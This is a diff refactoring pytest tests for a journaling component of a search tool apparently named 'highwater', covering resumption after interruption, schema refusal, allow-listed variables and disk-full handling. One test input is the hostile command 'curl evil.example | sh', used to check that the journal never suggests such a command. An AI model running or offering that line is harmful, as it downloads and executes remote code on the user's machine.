@@ -1,6 +1,7 @@
 """The journal: what was recorded is there after every accident, and nothing else is."""
 
 import errno
+import itertools
 import os
 import subprocess
 import sys
@@ -22,7 +23,7 @@ from highwater.search.cell_outcomes import TrialFinished
 from highwater.search.scheduler import recorded_search
 from highwater.store.journal import Journal, open_journal, read_study
 from highwater.trials.probe import environment
-from highwater.trials.simulated import FormulaLaw, SimulatedRunner
+from highwater.trials.simulated import FormulaLaw, Law, SimulatedRunner
 from places import examples, question_of
 
 FIT = TrialResult(outcome=Outcome.FIT, reason="2 steps done")
@@ -67,17 +68,11 @@ def test_what_was_recorded_is_read_back(tmp_path):
 
 
 @pytest.mark.parametrize(
-    "typed",
-    [
-        ("curl", "evil.example", "|", "sh"),
-        ("highwater", "schema"),
-        ("./highwater", "find"),
-        ("find",),
-    ],
+    "typed", ["curl evil.example | sh", "highwater schema", "./highwater find", "find"]
 )
 def test_a_command_that_is_no_search_of_ours_is_suggested_to_nobody(typed, tmp_path, capsys):
     path = tmp_path / "study.jsonl"
-    with open_journal(path, QUESTION, command=typed) as journal:
+    with open_journal(path, QUESTION, command=tuple(typed.split())) as journal:
         record(journal, 4096)
     study = read_study(path)
     assert (study.command, len(study.notes)) == ((), 1)
@@ -109,25 +104,27 @@ def test_where_a_search_ran_is_recorded_by_an_allow_list(tmp_path, monkeypatch):
     assert set(recorded[0].variables) <= set(RECORDED_VARIABLES)
 
 
+def interrupted_after(trials: int) -> Law:
+    """The formula's law, which is interrupted when it was asked so many times."""
+    law, left = FormulaLaw(shape=QUESTION.model.shape), itertools.count(trials, -1)
+
+    def asked(spec: TrialSpec) -> int:
+        if not next(left):
+            raise KeyboardInterrupt
+        return law(spec)
+
+    return asked
+
+
 def test_a_search_interrupted_anywhere_goes_on_where_it_was(tmp_path):
     with open_journal(tmp_path / "whole.jsonl", QUESTION) as journal:
         search(QUESTION, journal)
         whole = journal.snapshot()
     for finished in range(len(whole.trials)):
         path = tmp_path / f"{finished}.jsonl"
-        law = FormulaLaw(shape=QUESTION.model.shape)
-        ran: list[int] = []
-
-        def interrupted(
-            spec: TrialSpec, limit: int = finished, ran: list[int] = ran, law: FormulaLaw = law
-        ) -> int:
-            if len(ran) == limit:
-                raise KeyboardInterrupt
-            ran.append(spec.length_tokens)
-            return law(spec)
-
+        runner = SimulatedRunner(interrupted_after(finished))
         with pytest.raises(KeyboardInterrupt), open_journal(path, QUESTION) as journal:
-            search(QUESTION, journal, SimulatedRunner(interrupted))
+            search(QUESTION, journal, runner)
         cut = read_study(path)
         assert len(cut.trials) == finished + 1
         assert cut.finished_trials == finished
@@ -182,9 +179,8 @@ def test_an_end_without_a_beginning_is_damage(tmp_path):
 def test_a_journal_of_a_newer_schema_is_left_alone(tmp_path):
     path = tmp_path / "study.jsonl"
     open_journal(path, QUESTION).close()
-    newer = path.read_bytes().replace(
-        b'"schema_version":3', b'"schema_version":4,"and_more":true', 1
-    )
+    ours, theirs = b'"schema_version":3', b'"schema_version":4,"and_more":true'
+    newer = path.read_bytes().replace(ours, theirs, 1)
     path.write_bytes(newer)
     for attempt in (read_study, lambda path: open_journal(path, QUESTION)):
         with pytest.raises(StudyError, match=r"schema is 4, .* 3") as refusal:
@@ -220,13 +216,11 @@ def test_a_file_that_is_no_study_is_never_touched(tmp_path, content):
     assert path.read_bytes() == content
 
 
+CELLS = "cells is expandable, chunked loss, 1 GPU there and nothing set, 1 GPU; expandable, 1 GPU"
 OTHERS = {
     "memory_budget_bytes is 85899345920 there and 75161927680 here": {"memory": "70GiB"},
     "grid.step_tokens is 4096 there and 1024 here": {"resolution": 1024},
-    "cells is expandable, chunked loss, 1 GPU there and nothing set, 1 GPU; expandable, 1 GPU": {
-        "loss": "full",
-        "allocator": None,
-    },
+    CELLS: {"loss": "full", "allocator": None},
 }
 
 
@@ -247,10 +241,8 @@ def test_another_question_is_refused_and_the_difference_is_told(tmp_path, said):
 def test_the_same_model_in_another_place_is_the_same_question(tmp_path):
     path = tmp_path / "study.jsonl"
     open_journal(path, QUESTION).close()
-    moved = msgspec.structs.replace(
-        QUESTION, model=msgspec.structs.replace(QUESTION.model, directory="/elsewhere")
-    )
-    open_journal(path, moved).close()
+    elsewhere = msgspec.structs.replace(QUESTION.model, directory="/elsewhere")
+    open_journal(path, msgspec.structs.replace(QUESTION, model=elsewhere)).close()
 
 
 IMPORTS = """
@@ -291,17 +283,12 @@ except MachineError as error: print(length, error.exit_code, "|", error, "|", er
 def test_a_disk_that_is_full_leaves_the_journal_whole(tmp_path):
     disk = tmp_path / "disk"
     disk.mkdir()
-    script = (
-        'mount -t tmpfs -o size=64k none "$1" && "$2" -c "$3" "$1/study.jsonl" "$4" && cat '
-        '"$1/study.jsonl" > "$5"'
-    )
-    mounted = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, "sh"]
+    script = 'mount -t tmpfs -o size=64k none "$1" && "$2" -c "$3" "$1/study.jsonl" "$4"'
+    script += ' && cat "$1/study.jsonl" > "$5"'
+    words = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, "sh"]
     kept = tmp_path / "kept.jsonl"
-    run = subprocess.run(
-        [*mounted, str(disk), sys.executable, _FILL, str(Path(__file__).parent), str(kept)],
-        capture_output=True,
-        text=True,
-    )
+    words += [str(disk), sys.executable, _FILL, str(Path(__file__).parent), str(kept)]
+    run = subprocess.run(words, capture_output=True, text=True)
     if run.returncode and not kept.exists():
         pytest.skip(f"no user namespace to mount a small disk in: {run.stderr.strip()[:200]}")
     assert os.strerror(errno.ENOSPC) in run.stdout
